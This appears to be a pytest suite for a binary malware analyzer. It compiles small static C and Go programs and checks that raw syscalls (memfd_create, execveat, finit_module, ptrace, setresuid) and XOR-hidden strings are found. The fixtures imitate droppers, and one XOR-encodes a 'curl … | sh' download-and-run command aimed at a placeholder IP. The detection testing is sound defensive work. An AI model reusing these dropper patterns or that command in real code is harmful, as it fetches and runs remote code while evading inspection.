"""System calls of statically linked binaries, read from their code with capstone: real static
programs built by gcc (raw ``syscall``/``svc`` instructions and the C library's ``syscall()``)
and by go, examined by the binary analyzer; the calls reach the capability rules as imports do
and their evidence (offset, disassembly) every report format."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from binbuild import build_go, compile_c
from finalexam.analyze.binary import analyzer, capabilities
from finalexam.analyze.binary.facts.code import syscall_names
from finalexam.analyze.binary.facts.parse import examine
from finalexam.model import Location

# Raw system calls, as a static loader or a dropper that avoids the C library writes them.
RAW_X86_64 = r"""
static inline __attribute__((always_inline)) long raw(long n, long a, long b, long c) {
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
                      : "rcx", "r11", "memory");
    return r;
}
int main(int argc, char **argv) {
    if (argc > 5) {
        long fd = raw(319, (long)"x", 0, 0);          /* memfd_create */
        raw(1, fd, (long)argv[1], 64);                /* write */
        raw(322, fd, (long)"", (long)argv);           /* execveat */
        raw(313, 3, (long)"", 0);                     /* finit_module */
    }
    return 0;
}
"""

LIBC_SYSCALL = r"""
#define _GNU_SOURCE
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc > 5) {
        syscall(SYS_ptrace, 16, 1234, 0, 0);   /* PTRACE_ATTACH */
        syscall(SYS_setresuid, 0, 0, 0);
    }
    return 0;
}
"""

RAW_AARCH64 = r"""
static inline __attribute__((always_inline)) long raw(long n, long a, long b, long c) {
    register long x8 __asm__("x8") = n;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    __asm__ volatile ("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
}
int main(int argc, char **argv) {
    if (argc > 5) {
        raw(273, 3, (long)"", 0);   /* finit_module */
        raw(117, 16, 1234, 0);      /* ptrace */
    }
    return 0;
}
"""

GO_PROGRAM = """package main

import (
\t"os"
\t"syscall"
)

func main() {
\tif len(os.Args) > 5 {
\t\tsyscall.Syscall(syscall.SYS_INIT_MODULE, 0, 0, 0)
\t\tsyscall.RawSyscall(syscall.SYS_PTRACE, 16, 1234, 0)
\t}
}
"""


def described(path: Path) -> tuple[dict[str, object], list[str], bytes]:
    data = path.read_bytes()
    location = Location((path.name,))
    analysis = analyzer.describe(examine(data), data, location, capabilities.load_rules())
    return analysis.binaries[0], [f.rule_id for f in analysis.findings], data


def sites(entry: dict[str, object]) -> dict[str, dict[str, object]]:
    return {site["name"]: site for site in entry.get("syscalls", [])}  # type: ignore[attr-defined]


def capability(entry: dict[str, object], rule_id: str) -> dict[str, object]:
    found = [c for c in entry["capabilities"] if c["id"] == rule_id]  # type: ignore[attr-defined]
    assert found, f"{rule_id} not among {[c['id'] for c in entry['capabilities']]}"  # type: ignore[attr-defined]
    return found[0]  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def raw_stripped(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("raw")
    return compile_c(directory, "loader", ["-O2", "-static", "-s"], RAW_X86_64)


def test_raw_syscalls_of_a_stripped_static_binary_are_named_with_offset_and_code(
    raw_stripped: Path,
) -> None:
    entry, findings, data = described(raw_stripped)
    found = sites(entry)
    for name, number in (("memfd_create", 319), ("execveat", 322), ("finit_module", 313)):
        site = found[name]
        assert site["number"] == number
        offset = site["offset"]
        assert isinstance(offset, int)
        assert data[offset : offset + 2] == b"\x0f\x05"  # the syscall instruction itself
        assert str(site["disassembly"]).endswith("syscall")
        assert f"eax, {number:#x}" in str(site["disassembly"])
    summary = entry["details"]["syscall_sites"]  # type: ignore[index]
    assert summary["sites"] >= 4
    # a stripped static binary has no imports: the rules see the calls its code makes
    assert entry["imports"] == []
    fileless = capability(entry, "evasion-fileless-exec")
    assert fileless["evidence"] == {"syscalls": ["execveat", "memfd_create"]}
    assert fileless["offsets"]["memfd_create (syscall)"] == found["memfd_create"]["offset"]  # type: ignore[index]
    assert "syscall" in fileless["disassembly"]["execveat"]  # type: ignore[index]
    module = capability(entry, "kernel-module-loading")
    assert module["evidence"] == {"syscalls": ["finit_module"]}
    assert "capability.evasion-fileless-exec" in findings
    assert "capability.kernel-module-loading" in findings


def test_numbers_passed_to_the_c_librarys_syscall_function_are_read(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "tracer", ["-O2", "-static"], LIBC_SYSCALL)
    entry, _, _ = described(binary)
    found = sites(entry)
    assert found["ptrace"]["number"] == 101
    assert "edi, 0x65" in str(found["ptrace"]["disassembly"])
    assert str(found["ptrace"]["disassembly"]).split("; ")[-1].startswith("call")
    assert found["setresuid"]["number"] == 117
    assert capability(entry, "ptrace-debugging")["evidence"] == {"syscalls": ["ptrace"]}
    assert "setresuid" in capability(entry, "privilege-change")["evidence"]["syscalls"]  # type: ignore[index]


def test_a_dynamic_binary_is_not_disassembled(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "dynamic", ["-O2"], LIBC_SYSCALL)
    entry, _, _ = described(binary)
    assert "syscalls" not in entry
    assert "syscall_sites" not in entry.get("details", {})  # type: ignore[operator]


def test_aarch64_svc_sites_are_read_from_x8(tmp_path: Path) -> None:
    if shutil.which("aarch64-linux-gnu-gcc") is None:
        pytest.skip("no aarch64 cross compiler (gcc-aarch64-linux-gnu) to build the program")
    binary = compile_c(
        tmp_path, "arm64", ["-O2", "-static"], RAW_AARCH64, compiler="aarch64-linux-gnu-gcc"
    )
    entry, _, data = described(binary)
    assert entry["arch"] == "aarch64"
    found = sites(entry)
    assert found["finit_module"]["number"] == 273
    assert found["ptrace"]["number"] == 117
    offset = found["ptrace"]["offset"]
    assert isinstance(offset, int)
    assert data[offset : offset + 4] == b"\x01\x00\x00\xd4"  # svc #0
    assert "svc #0" in str(found["ptrace"]["disassembly"])
    assert capability(entry, "kernel-module-loading")["evidence"] == {"syscalls": ["finit_module"]}


@pytest.mark.parametrize("flags", [(), ("-ldflags=-s -w",)], ids=["symbols", "stripped"])
def test_numbers_passed_to_gos_syscall_wrappers_are_read(
    tmp_path: Path, flags: tuple[str, ...]
) -> None:
    # stripped, the wrappers are found through the pclntab's function table
    binary = build_go(tmp_path, "gomod", GO_PROGRAM, flags)
    entry, _, _ = described(binary)
    found = sites(entry)
    assert found["init_module"]["number"] == 175
    assert "eax, 0xaf" in str(found["init_module"]["disassembly"])
    assert found["ptrace"]["number"] == 101
    assert capability(entry, "kernel-module-loading")["evidence"] == {"syscalls": ["init_module"]}


def test_the_tables_are_the_kernels() -> None:
    names = syscall_names()
    assert names["x86_64"][59] == "execve" and names["x86_64"][322] == "execveat"
    assert names["i386"][11] == "execve" and names["i386"][102] == "socketcall"
    assert names["aarch64"][221] == "execve" and names["aarch64"][279] == "memfd_create"
    assert names["arm"][11] == "execve" and names["arm"][281] == "socket"
    assert names["mips"][4011] == "execve"


def test_syscall_evidence_reaches_every_report_format(raw_stripped: Path, tmp_path: Path) -> None:
    formats = ["json", "sarif", "markdown", "html"]
    command = [sys.executable, "-m", "finalexam", "scan", str(raw_stripped)]
    for name in formats:
        command += ["-o", f"{name}={tmp_path / name}"]
    result = subprocess.run(command, capture_output=True, text=True, check=False)
    assert result.returncode in (0, 1), result.stderr
    document = json.loads((tmp_path / "json").read_text())
    finding = next(
        f for f in document["findings"] if f["rule_id"] == "capability.kernel-module-loading"
    )
    evidence = finding["evidence"]
    assert evidence["syscalls"] == ["finit_module"]
    assert evidence["disassembly"]["finit_module"].endswith("syscall")
    assert evidence["offset"] == evidence["offsets"]["finit_module (syscall)"]
    # the formats that carry findings' evidence carry the call and its code; the pull-request
    # comment lists findings by rule, as for every other finding (the table only titles)
    for name in ("json", "sarif", "html"):
        text = (tmp_path / name).read_text()
        assert "finit_module" in text, name
        assert "eax, 0x139" in text, name
    assert "capability.kernel-module-loading" in (tmp_path / "markdown").read_text()


HIDDEN = b"curl -s http://198.51.100.7/x.sh | sh; chmod +x /tmp/.x"


def xor_program(key: int) -> str:
    encoded = ", ".join(f"{byte ^ key:#04x}" for byte in HIDDEN)
    return (
        "#include <stdio.h>\n#include <stdlib.h>\n"
        f"static const unsigned char hidden[] = {{{encoded}, {key:#04x}}};\n"
        "int main(int argc, char **argv) {\n"
        "    char text[sizeof hidden];\n"
        f"    for (unsigned i = 0; i < sizeof hidden; i++) text[i] = hidden[i] ^ {key:#04x};\n"
        "    if (argc > 5) return system(text);\n"
        '    return puts("ok") < 0;\n'
        "}\n"
    )


def test_a_url_and_command_xored_with_one_byte_are_decoded(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "dropper", ["-O0"], xor_program(0x5A))
    entry, findings, data = described(binary)
    assert HIDDEN not in data  # nothing readable in the file itself
    strings = entry["xor_strings"]
    assert isinstance(strings, list)
    assert len(strings) == 1
    found = strings[0]
    assert found["key"] == 0x5A
    assert found["text"] == HIDDEN.decode()
    offset = found["offset"]
    assert bytes(b ^ 0x5A for b in data[offset : offset + len(HIDDEN)]) == HIDDEN
    # the decoded text meets the same rules as hex- and Base64-decoded text
    hidden = capability(entry, "encoded-shell-command")
    assert "chmod +x" in hidden["evidence"]["decoded"]  # type: ignore[index]
    assert hidden["offsets"]["chmod +x (xor-0x5a-decoded)"] == offset  # type: ignore[index]
    assert "capability.encoded-shell-command" in findings
    # and the endpoint in it is one of the report's indicators, classified as plain ones are
    analysis = analyzer.describe(
        examine(data), data, Location((binary.name,)), capabilities.load_rules()
    )
    urls = {i.value: i.category for i in analysis.indicators if i.kind == "url"}
    assert "http://198.51.100.7/x.sh" in urls


def test_plain_text_is_not_read_as_xored(tmp_path: Path) -> None:
    source = (
        '#include <stdio.h>\nint main(void) { return puts("curl -s http://198.51.100.7/x.sh'
        ' | sh; CHMOD +X /TMP/.X; HTTP://EXAMPLE.ORG/") < 0; }\n'
    )
    entry, _, _ = described(compile_c(tmp_path, "plain", ["-O0"], source))
    assert "xor_strings" not in entry
